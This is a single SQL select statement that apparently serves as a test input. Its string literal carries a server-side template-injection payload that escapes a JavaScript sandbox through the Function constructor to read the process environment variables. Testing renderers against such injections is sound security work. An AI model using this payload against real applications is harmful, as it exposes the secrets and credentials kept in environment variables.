select '{{ "".constructor.constructor("return process")().env }}' as n
